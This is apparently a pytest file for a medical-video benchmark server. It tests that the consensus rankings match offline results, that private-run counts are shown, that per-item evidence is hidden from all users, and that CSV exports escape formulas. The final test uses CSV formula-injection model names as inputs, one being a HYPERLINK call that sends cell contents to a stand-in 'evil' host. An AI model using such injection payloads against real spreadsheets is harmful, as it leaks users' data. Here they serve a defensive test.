"""The consensus board on the server (#33): the same numbers as ``medvidbench rank`` on the same
submissions, the private-run count on every published row, and per-item evidence that never
leaves the server, walked route by route as every kind of user."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from medvidbench import benchmarks
from medvidbench.core.config import Settings
from medvidbench.server.jobs import attach_queue
from medvidbench.server.runtime import Runtime
from medvidbench.server.services.catalogue import load_benchmark
from medvidbench.server.services.submissions import submit
from medvidbench.server.store.db import upgrade
from medvidbench.server.store.models import EvaluationEvidence, TestSet
from medvidbench.server.web.app import create_app
from tests.server.conftest import make_user
from tests.web.conftest import csrf, token_for

SLUGS = ("medvidbench", "medsg", "mcqa-demo")
FAMILY = ("perfect", "strong")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    root = tmp_path_factory.mktemp("consensus")
    settings = Settings(  # type: ignore[call-arg]
        data_dir=root / "data", benchmarks=",".join(SLUGS), quota_per_day=0, quota_per_month=0
    )
    rt = Runtime(settings)
    upgrade(rt.engine)
    attach_queue(rt, immediate=True)
    alice = make_user(rt, "alice", team="Lab A")
    demos = {}
    for slug in SLUGS:
        bench = benchmarks.get(slug)
        assert bench.demo is not None
        demos[slug] = bench.demo.synthesise(root / slug, 200, 2)
        load_benchmark(rt, demos[slug]["ground_truth"], demo=True, slug=slug)
    # one private run before the published ones, on MedVidBench
    submit(rt, alice, demos["medvidbench"]["weak"].read_bytes(), "Try", visibility="private")
    ids = {}
    for slug in SLUGS:
        for archetype in FAMILY:
            data = demos[slug][archetype].read_bytes()
            ids[slug, archetype] = submit(rt, alice, data, f"Family {archetype}", benchmark=slug).id
    with TestClient(create_app(rt), follow_redirects=False) as client:
        yield {"rt": rt, "client": client, "demos": demos, "ids": ids, "root": root}
    rt.engine.dispose()


def test_the_consensus_page_api_and_csv(site: dict[str, Any]) -> None:
    client = site["client"]
    page = client.get("/consensus")
    assert page.status_code == 200
    for method in ("mean", "borda", "kemeny", "plackett-luce"):
        table = page.text.split(f'id="consensus-{method}"')[1].split("</table>")[0]
        assert table.index("Family perfect") < table.index("Family strong"), method
    rows = client.get("/api/v1/consensus").json()
    assert {r["method"] for r in rows} == {"mean", "borda", "kemeny", "plackett-luce"}
    assert all(r["benchmarks"] == 3 and r["interval"] for r in rows)
    csv = client.get("/consensus.csv").text
    assert csv.splitlines()[0].startswith("method,rank,model,score") and "Family strong" in csv
    # a family's board counts the benchmarks that have its tasks, not every hosted one
    having = [
        s for s in SLUGS if any(t.family == "spatial-grounding" for t in benchmarks.get(s).tasks)
    ]
    assert len(having) == 2  # MedVidBench and MedSG-Bench, not the multiple-choice demo
    pooled = client.get("/api/v1/consensus?family=spatial-grounding").json()
    assert pooled and {r["benchmarks"] for r in pooled} == {len(having)}
    mcq = client.get("/api/v1/consensus?family=multiple-choice").json()
    assert mcq and {r["benchmarks"] for r in mcq} == {1}
    assert client.get("/api/v1/consensus?family=telepathy").status_code == 400


def test_rank_on_reports_gives_what_the_server_shows(site: dict[str, Any], tmp_path: Path) -> None:
    """The same submissions evaluated offline with the server's bootstrap: 1,000 replicates,
    and the seed the server draws with (on a hidden-label benchmark its secret, which whoever
    holds the test set can derive)."""
    rt = site["rt"]
    reports = []
    for slug in SLUGS:
        demo = site["demos"][slug]
        with rt.sessions() as session:
            gt_sha256 = session.scalar(
                select(TestSet.gt_sha256).where(TestSet.slug == slug, TestSet.is_current)
            )
        seed = rt.bootstrap_seed(rt.definition(slug), gt_sha256)
        for archetype in FAMILY:
            out = tmp_path / f"{slug}-{archetype}.json"
            done = subprocess.run(
                [
                    sys.executable,
                    "-m",
                    "medvidbench",
                    "evaluate",
                    str(demo[archetype]),
                    "--ground-truth",
                    str(demo["ground_truth"]),
                    "--benchmark",
                    slug,
                    "--per-item",
                    "--seed",
                    str(seed),
                    "--model-name",
                    f"Family {archetype}",
                    "--out",
                    str(out),
                    "--json",
                ],
                capture_output=True,
                text=True,
                timeout=300,
            )
            assert done.returncode == 0, done.stderr
            reports.append(str(out))
    # the Plackett-Luce resamples draw the hidden items too: the server's seed for them
    from medvidbench.server.services.consensus import resample_seed
    from medvidbench.server.services.test_sets import current_benchmark

    hosted = [(slug, current_benchmark(rt, slug).id) for slug in SLUGS]
    pl_seed = resample_seed(rt, hosted)
    assert pl_seed != rt.settings.bootstrap_seed
    offline = json.loads(
        subprocess.run(
            [
                sys.executable,
                "-m",
                "medvidbench",
                "rank",
                *reports,
                "--seed",
                str(pl_seed),
                "--json",
            ],
            capture_output=True,
            text=True,
            timeout=300,
            check=True,
        ).stdout
    )
    served = site["client"].get("/api/v1/consensus").json()

    def keyed(rows: list[dict[str, Any]]) -> dict[tuple[str, str], tuple[Any, ...]]:
        return {
            (r["method"], r["model"]): (r["rank"], round(r["score"], 9), r["interval"])
            for r in rows
        }

    assert keyed(offline) == keyed(served)


def test_every_published_row_says_how_many_private_runs_came_before(site: dict[str, Any]) -> None:
    client = site["client"]
    rows = client.get("/api/v1/benchmarks/medvidbench/boards/community").json()
    assert {r["model_name"]: r["private_runs"] for r in rows} == {
        "Family perfect": 1,
        "Family strong": 1,
    }
    others = client.get("/api/v1/benchmarks/medsg/boards/community").json()
    assert all(r["private_runs"] == 0 for r in others)
    # a reported result has no account here: how many tries it took is not known, not 0
    from medvidbench.server.services.catalogue import seed_published

    assert seed_published(site["rt"], "medvidbench") > 0  # the published results, reported
    official = client.get("/api/v1/benchmarks/medvidbench/boards/official").json()
    reported = [r for r in official if r["submission_id"] is None]
    assert reported and all(r["private_runs"] is None for r in reported)
    import csv
    import io

    text = client.get("/api/v1/benchmarks/medvidbench/boards/official?format=csv").text
    table = list(csv.DictReader(io.StringIO(text)))
    assert table and all(row["private_runs_before"] == "" for row in table)
    board = client.get("/b/medvidbench/board/community").text
    assert board.count("after 1 private run<") == 2
    assert 'id="private-runs"' in client.get("/b/medvidbench/about").text
    assert "private runs" in client.get("/consensus").text


# --- per-item evidence never leaves the server ----------------------------------------------

NUMBERS = re.compile(r"\[(?:\s*-?\d+(?:\.\d+)?(?:e-?\d+)?\s*,){99,}")  # a list of 100+ numbers


def _flat(routes: Any, prefix: str) -> Iterator[tuple[str, set[str]]]:
    """Every route's path and methods, included routers opened (however FastAPI holds them)."""
    for route in routes:
        inner = getattr(route, "original_router", None)
        if inner is not None:
            yield from _flat(inner.routes, prefix + route.include_context.prefix)
        elif hasattr(route, "path"):
            yield prefix + route.path, set(getattr(route, "methods", None) or ())


def _routes(app: Any, ids: dict[Any, int], site: dict[str, Any]) -> list[str]:
    """Every GET route of the app, with real ids in its path parameters."""
    rt = site["rt"]
    with rt.sessions() as session:
        evaluation = session.scalar(select(EvaluationEvidence.evaluation_id))
    sub = ids["medvidbench", "strong"]
    values = {
        "slug": "medvidbench",
        "kind": "community",
        "submission_id": sub,
        "entry_id": 1,
        "evaluation_id": evaluation,
        "user_id": 1,
        "token_id": 1,
        "task": "tal",
        "path": "style.css",
        "name": "alice",
        "item": 0,
        "index": 0,
        "filename": "x",
    }
    paths = []
    for path, methods in _flat(app.routes, ""):
        if "GET" not in methods or path.startswith("/static"):
            continue  # the vendored scripts and stylesheets hold no data
        for name in re.findall(r"{(\w+)(?::\w+)?}", path):
            path = re.sub(r"{" + name + r"(?::\w+)?}", str(values.get(name, 1)), path)
        paths.append(path)
    extra = [
        f"/submissions/{sub}?evaluation={evaluation}",
        f"/submissions/{sub}/report.json",
        "/api/v1/consensus?family=temporal-localisation",
        "/consensus.csv",
    ]
    return sorted(set(paths + extra))


def _as(
    client: TestClient, name: str | None, site: dict[str, Any], role: str = "submitter"
) -> dict[str, str]:
    if name is None:
        client.cookies.clear()
        return {}
    make_user(site["rt"], name, role, team="Lab A" if name == "member" else None)
    client.cookies.clear()  # the previous user's session
    answer = client.post(
        "/login",
        data={
            "username": name,
            "password": f"{name}-password-123",
            "csrf": csrf(client),
            "next": "/",
        },
    )
    assert answer.status_code == 303
    return {"Authorization": f"Bearer {token_for(client)}"}


def test_per_item_evidence_is_returned_by_no_route(site: dict[str, Any]) -> None:
    """As a visitor, a submitter of another team, a member of the team that submitted, and an
    admin: no page, API answer, export or error holds a per-item vector or the stored blob."""
    rt, client = site["rt"], site["client"]
    with rt.sessions() as session:
        blobs = [bytes(b) for b in session.scalars(select(EvaluationEvidence.data))]
    assert blobs, "evidence is kept for every evaluation"
    secrets = [base64.b64encode(b[:48]).decode() for b in blobs] + [b[:48].hex() for b in blobs]
    routes = _routes(client.app, site["ids"], site)
    assert len(routes) > 30
    for who, role in (
        (None, ""),
        ("stranger", "submitter"),
        ("member", "submitter"),
        ("boss", "admin"),
    ):
        headers = _as(client, who, site, role)
        for path in routes:
            answer = client.get(path, headers=headers)
            body = answer.text
            assert not NUMBERS.search(body), (who, path)
            assert not any(s in body for s in secrets), (who, path)


def test_a_model_name_is_never_a_formula_in_the_csv(site: dict[str, Any]) -> None:
    """As the boards' exports: a formula may start after any separator a spreadsheet splits
    the cell on, not only at its start (a security review found ``;=HYPERLINK(...)`` live).
    Last in this file: it adds entries to the module's shared site."""
    rt, demos = site["rt"], site["demos"]
    names = ['Calc;=HYPERLINK("http://evil/?"&A1,"x")', "=1+1", "x|@SUM(A1)"]
    for n, name in enumerate(names):
        data = demos["medsg"]["strong"].read_bytes() + b"\n" * (n + 1)  # each file its own
        submit(rt, make_user(rt, f"calc{n}"), data, name, benchmark="medsg")
    rows = list(csv.reader(io.StringIO(site["client"].get("/consensus.csv").text)))
    shown = {row[2] for row in rows[1:]}
    assert {'Calc;\'=HYPERLINK("http://evil/?"&A1,"x")', "'=1+1", "x|'@SUM(A1)"} <= shown
    assert not any(re.search(r"(^|[,;|\t])\s*[=+@]", cell) for cell in shown)
